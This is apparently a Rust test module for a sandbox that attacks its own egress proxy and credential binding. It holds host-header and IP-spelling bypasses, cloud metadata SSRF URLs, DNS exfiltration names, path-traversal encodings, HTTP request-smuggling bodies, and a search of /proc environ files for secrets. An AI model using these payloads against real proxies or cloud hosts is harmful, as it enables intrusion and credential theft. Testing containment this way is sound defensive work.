//! Attacks on what judges the way out: NT2 to NT6 and CR1 to CR3.
//!
//! The sandbox may reach three made-up names and nothing else. None of them
//! exists, so what is permitted fails after the judgement, and what is refused
//! at it; which of the two it was stands in the answer. Nobody outside is spoken to but
//! the caller's own name server.

use super::attacks;
use super::web::{self, Answer};
use crate::bait::way_out::{BOUND, LISTED, PLACEHOLDER, PLAIN};
use crate::{Stage, Verdict};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};

/// A name that no rule permits.
const OTHER: &str = "stockade-other.example.com";

attacks! {
    NT2 "nt2-other-host", WayOut, Never("there is nobody to judge it"),
        "asks for a host that no rule names, also with a permitted one as its end or its start"
        => |_| while_permitted(|| Verdict::all([
            OTHER.to_owned(),
            format!("{LISTED}.{OTHER}"),
            format!("evil-{LISTED}"),
            format!("evil.{LISTED}"),
            "example.com".to_owned(),
        ].iter().map(|host| connects(&format!("{host}:443")))));
    NT2 "nt2-other-port", WayOut, Never("there is nobody to judge it"),
        "asks for other ports of a permitted host"
        => |_| while_permitted(|| Verdict::all([22, 25, 8443, 65535]
            .map(|port| connects(&format!("{LISTED}:{port}")))));
    NT2 "nt2-addresses", WayOut, Never("there is nobody to judge it"),
        "asks for addresses in place of names, in each spelling"
        => |_| while_permitted(|| Verdict::all(
            ["1.1.1.1", "[2606:4700:4700::1111]", "16843009", "0x01010101", "1.1", "01.01.01.01"]
                .map(|address| connects(&format!("{address}:443")))));
    NT2 "nt2-host-header", WayOut, Never("there is nobody to judge it"),
        "asks for a permitted host in the target and for another one in the header"
        => |_| while_permitted(|| gets(&format!("http://{PLAIN}/open/x"), &[("Host", OTHER)]));
    NT2 "nt2-past-the-proxy", WayOut, Never("there is nobody to judge it"),
        "connects to an address without the proxy, and asks for another host there"
        => |_| while_permitted(|| Verdict::all([OTHER, "1.1.1.1"]
            .map(|host| judged(web::direct(SocketAddr::from(([1, 1, 1, 1], 80)), host)))));
    NT3 "nt3-other-names", WayOut, Never("there is nobody to judge it"),
        "has names resolved that carry data out: of other hosts, below a permitted one, of each type"
        => |_| names();
    NT4 "nt4-host-loopback", WayOut, Never("there is nobody to judge it"),
        "asks the proxy for services of the host, in each spelling of its addresses"
        => host_loopback;
    NT4 "nt4-metadata", WayOut, Never("there is nobody to judge it"),
        "asks the proxy for the metadata services of clouds"
        => |_| while_permitted(|| Verdict::all([
            "169.254.169.254", "169.254.170.2", "100.100.100.200", "[fd00:ec2::254]",
            "metadata.google.internal", "2852039166", "[::ffff:169.254.169.254]",
        ].map(|host| gets(&format!("http://{host}/latest/meta-data/"), &[]))));
    NT5 "nt5-other-server-name", WayOut, Never("there is nobody to judge it"),
        "connects to one host and begins TLS with another one's name, or with none"
        => |_| other_server_name();
    NT6 "nt6-method", WayOut, Never("there is nobody to judge it"),
        "uses methods that the rule does not name"
        => |_| while_permitted(|| Verdict::all(["POST", "PUT", "DELETE", "PATCH", "get", "TRACE"]
            .map(|method| asks(method, &format!("http://{PLAIN}/open/x"), &[]))));
    NT6 "nt6-path", WayOut, Never("there is nobody to judge it"),
        "asks for paths that the rule does not name, also by detours through those that it does"
        => |_| while_permitted(|| Verdict::all([
            "/shut", "/open/../shut", "/open/%2e%2e/shut", "/open/..%2fshut", "/open%2f..%2fshut",
            "//shut", "/open/..;/shut", "/open\\..\\shut", "/open/%252e%252e/shut/%00",
        ].map(|path| gets(&format!("http://{PLAIN}{path}"), &[]))));
    NT6 "nt6-second-request", WayOut, Never("there is nobody to judge it"),
        "sends a second request behind a permitted one, openly and hidden in its body"
        => |_| while_permitted(second_request);
    CR1 "cr1-search", WayOut, Never("there is nothing bound"),
        "searches environments, arguments, memory and files of all that it sees for the secret"
        => search;
    CR1 "cr1-answer", WayOut, Never("there is nothing bound"),
        "has the secret attached to a request, and searches the answer for it"
        => answer;
    CR2 "cr2-placeholder-elsewhere", WayOut, Never("there is nothing bound"),
        "sends the placeholder where another host would get the secret"
        => |_| while_permitted(placeholder_elsewhere);
    CR2 "cr2-without-encryption", WayOut, Never("there is nothing bound"),
        "has the secret attached to a request that goes out in the open"
        => |_| while_permitted(|| with_placeholder(|held|
            gets(&format!("http://{BOUND}/"), &[("Authorization", &format!("Bearer {held}"))])));
    CR3 "cr3-own-credential", WayOut, Never("there is nothing bound"),
        "uses an account of its own on the host that has a bound one"
        => |_| own_credential();
}

/// Tries only where what is permitted is not refused as well: else a proxy that
/// refuses everything would count as one that judges.
fn while_permitted(attack: impl FnOnce() -> Verdict) -> Verdict {
    match web::through_proxy("GET", &format!("http://{PLAIN}/open/x"), &[]) {
        Ok(answer) => match answer.refusal() {
            Some(code) => Verdict::Inconclusive(format!("what is permitted is refused: {code}")),
            None => attack(),
        },
        Err(error) => Verdict::Inconclusive(format!("nobody judges anything: {error}")),
    }
}

/// A judgement is a stop, and so is an end without an answer.
fn judged(answer: std::io::Result<Answer>) -> Verdict {
    match answer {
        Ok(answer) => match answer.refusal() {
            Some(code) => Verdict::Stopped(code),
            None => Verdict::Escaped(format!("it was let through: {}", answer.line())),
        },
        Err(error) => Verdict::Stopped(crate::verdict::error_name(&error)),
    }
}

fn asks(method: &str, target: &str, headers: &[(&str, &str)]) -> Verdict {
    judged(web::through_proxy(method, target, headers)).about(target)
}

fn gets(target: &str, headers: &[(&str, &str)]) -> Verdict {
    asks("GET", target, headers)
}

fn connects(target: &str) -> Verdict {
    asks("CONNECT", target, &[])
}

fn names() -> Verdict {
    let (address, text, mail, any) = (1, 16, 15, 255);
    match web::resolve(LISTED, address) {
        Ok(answers) if answers.stand_in => {}
        other => {
            return Verdict::Inconclusive(format!("a permitted name leads nowhere: {other:?}"));
        }
    }
    let carried = format!("c2VjcmV0.{LISTED}");
    let questions = [
        (OTHER, address),
        (&carried[..], address),
        (&carried[..], text),
        (LISTED, text),
        (LISTED, mail),
        (LISTED, any),
        ("254.169.254.169.in-addr.arpa", 12),
    ];
    Verdict::all(
        questions.map(|(name, kind)| match web::resolve(name, kind) {
            Ok(answers) if answers.records == 0 => {
                Verdict::Stopped("an answer that knows nothing".into())
            }
            Ok(answers) if answers.stand_in && name == LISTED => {
                Verdict::Stopped("its stand-in".into())
            }
            Ok(_) => Verdict::Escaped(format!("{name} was resolved")),
            Err(error) => Verdict::Stopped(crate::verdict::error_name(&error)),
        }),
    )
}

fn host_loopback(stage: &Stage) -> Verdict {
    let Some(port) = stage.tcp.first().map(SocketAddr::port) else {
        return Verdict::Inconclusive("no listener was staged".into());
    };
    let own = stage.tcp.iter().map(SocketAddr::to_string);
    let spelled = [
        "127.0.0.1",
        "localhost",
        "localhost.",
        "127.1",
        "127.0.0.2",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "0.0.0.0",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
    ]
    .map(|host| format!("{host}:{port}"));
    let all: Vec<String> = own.chain(spelled).collect();
    while_permitted(|| Verdict::all(all.iter().map(|target| connects(target))))
}

fn other_server_name() -> Verdict {
    if let Err(error) = web::encrypted(BOUND, BOUND).map(drop) {
        return Verdict::Inconclusive(format!("the right name is refused as well: {error}"));
    }
    Verdict::all([LISTED, OTHER, "127.0.0.1"].map(|name| {
        let begun = web::encrypted(BOUND, name).map(drop);
        match begun {
            Ok(()) => Verdict::Escaped(format!("spoke as {name} on a connection to {BOUND}")),
            Err(_) => Verdict::Stopped("no handshake".into()),
        }
    }))
}

fn second_request() -> Verdict {
    let first = format!("GET http://{PLAIN}/open/x HTTP/1.1\r\nHost: {PLAIN}\r\n");
    let second =
        format!("GET http://{PLAIN}/shut HTTP/1.1\r\nHost: {PLAIN}\r\nConnection: close\r\n\r\n");
    let length = second.len();
    Verdict::all(
        [
            format!("{first}\r\n{second}"),
            format!(
                "{first}Content-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}"
            ),
            format!("{first}Content-Length: 0\r\nContent-Length: {length}\r\n\r\n{second}"),
            format!("{first}Transfer-Encoding: xchunked\r\n\r\n{second}"),
            format!("{first}Content-Length : {length}\r\n\r\n{second}"),
        ]
        .map(|sent| match web::raw(sent.as_bytes()) {
            Ok(answers) => match answers.last().and_then(Answer::refusal) {
                Some(code) => Verdict::Stopped(code),
                // The first was judged, and the connection ended with it.
                None if answers.len() == 1 => Verdict::Stopped("closed after the first".into()),
                None => Verdict::Escaped("the second was let through".into()),
            },
            Err(error) => Verdict::Stopped(crate::verdict::error_name(&error)),
        }),
    )
}

/// Whoever is attacked here knows the secret backwards only, and its own memory is
/// left out.
fn search(stage: &Stage) -> Verdict {
    let mut seen = 0;
    let mut look = |path: &Path, bytes: &[u8]| {
        seen += 1;
        stage
            .found_in(bytes)
            .then(|| Verdict::Escaped(format!("the secret is in {}", path.display())))
    };
    for process in super::processes() {
        for file in ["environ", "cmdline"] {
            let path = PathBuf::from(format!("/proc/{process}/{file}"));
            if let Some(found) = std::fs::read(&path)
                .ok()
                .and_then(|bytes| look(&path, &bytes))
            {
                return found;
            }
        }
    }
    let home = std::env::var_os("HOME").map(PathBuf::from);
    let places = ["/etc", "/run", "/tmp", "/var/tmp", "/dev/shm"].map(PathBuf::from);
    let mut places: Vec<PathBuf> = places.into_iter().chain(home).collect();
    places.push(stage.workspace.clone());
    while let Some(path) = places.pop() {
        let Ok(found) = std::fs::symlink_metadata(&path) else {
            continue;
        };
        if found.is_dir() {
            let entries = std::fs::read_dir(&path).into_iter().flatten().flatten();
            places.extend(entries.map(|entry| entry.path()));
        } else if found.is_file()
            && let Ok(bytes) = super::read_some(&path)
            && let Some(found) = look(&path, &bytes)
        {
            return found;
        }
    }
    match seen {
        0 => Verdict::Inconclusive("there was nothing to search".into()),
        _ => Verdict::Stopped("it is nowhere".into()),
    }
}

fn with_placeholder(attack: impl FnOnce(&str) -> Verdict) -> Verdict {
    match std::env::var(PLACEHOLDER) {
        Ok(held) if !held.is_empty() => attack(&held),
        _ => Verdict::Inconclusive("there is no placeholder".into()),
    }
}

fn answer(stage: &Stage) -> Verdict {
    with_placeholder(|held| {
        if stage.found_in(held.as_bytes()) {
            return Verdict::Escaped("the placeholder is the secret".into());
        }
        let authorization = format!("Bearer {held}");
        match web::over_tls(BOUND, "/", &[("Authorization", &authorization)]) {
            Ok(answer) if answer.refusal().is_some() => {
                Verdict::Inconclusive(format!("the bound request is refused: {}", answer.line()))
            }
            Ok(answer) if stage.found_in(answer.bytes()) => {
                Verdict::Escaped("the answer holds the secret".into())
            }
            Ok(_) => Verdict::Stopped("the answer does not hold it".into()),
            Err(error) => Verdict::Inconclusive(error.to_string()),
        }
    })
}

fn placeholder_elsewhere() -> Verdict {
    with_placeholder(|held| {
        let target = format!("http://{PLAIN}/open/x");
        let bearer = format!("Bearer {held}");
        Verdict::all([
            gets(&target, &[("Authorization", &bearer)]),
            gets(&target, &[("X-Token", held)]),
            gets(&target, &[("Cookie", &format!("session={held}"))]),
            gets(&format!("{target}?token={held}"), &[]),
            gets(&format!("http://{PLAIN}/open/{held}"), &[]),
        ])
    })
}

fn own_credential() -> Verdict {
    let foreign = [
        "Bearer an-account-of-my-own",
        "Basic bWU6bWluZQ==",
        "token mine",
    ];
    Verdict::all(
        foreign.map(|value| {
            judged(web::over_tls(BOUND, "/", &[("Authorization", value)])).about(value)
        }),
    )
}
